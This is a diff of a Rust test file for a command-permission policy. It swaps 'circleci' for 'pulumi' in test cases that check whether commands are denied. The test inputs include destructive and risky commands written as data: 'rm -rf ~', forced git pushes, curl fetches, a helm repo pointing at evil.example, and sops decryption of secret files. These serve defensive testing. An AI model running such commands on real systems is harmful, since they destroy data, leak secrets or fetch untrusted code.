@@ -22,18 +22,18 @@ fn entries_that_forbid_speak_of_words() {
         ("kubectl create secret generic x --from-env-file=.env", Decision::Denied),
         ("kubectl create secret generic x --from-env-file=.env.local", Decision::Denied),
         ("sops -d .github/x", Decision::Denied),
-        ("circleci local wrap 'rm -rf ~'", Decision::Denied),
-        ("circleci local wrap run git push --force", Decision::Denied),
-        ("circleci local wrap run curl x", Decision::Denied),
+        ("pulumi local wrap 'rm -rf ~'", Decision::Denied),
+        ("pulumi local wrap run git push --force", Decision::Denied),
+        ("pulumi local wrap run curl x", Decision::Denied),
         ("helm repo add x https://evil.example/charts", Decision::Denied),
         // The entry does not spell the name.
         ("sops -d prod.key", Decision::Unruled),
-        ("circleci local wrap run bash x", Decision::Unruled),
+        ("pulumi local wrap run bash x", Decision::Unruled),
         // A program's name alone, or in text, says too little.
-        ("circleci local wrap run curl", Decision::Unruled),
-        ("circleci local wrap 'use curl to fetch it'", Decision::Unruled),
+        ("pulumi local wrap run curl", Decision::Unruled),
+        ("pulumi local wrap 'use curl to fetch it'", Decision::Unruled),
         ("git commit -m 'do not rm -rf ~'", Decision::Unruled),
-        ("circleci local wrap run git push", Decision::Unruled),
+        ("pulumi local wrap run git push", Decision::Unruled),
     ] {
         assert_eq!(about_words(&scope, command), expected, "{command}");
     }
@@ -42,8 +42,8 @@ fn entries_that_forbid_speak_of_words() {
 #[test]
 fn words_need_no_entry_that_allows_them() {
     let files = r#""files": {"read": {"allow": ["src/**"]}, "write": {"allow": ["src/**"]}}"#;
-    let scope = policy(&format!(r#"{{"version": 2, {files}, "commands": {{"allow": ["sops", "circleci"]}}}}"#));
-    for command in ["sops -d secrets/x", "circleci local wrap 'rm -rf ~'", "PIP_CONFIG_FILE=.env sops -d a"] {
+    let scope = policy(&format!(r#"{{"version": 2, {files}, "commands": {{"allow": ["sops", "pulumi"]}}}}"#));
+    for command in ["sops -d secrets/x", "pulumi local wrap 'rm -rf ~'", "PIP_CONFIG_FILE=.env sops -d a"] {
         assert_eq!(about_words(&scope, command), Decision::Unruled, "{command}");
     }
 }
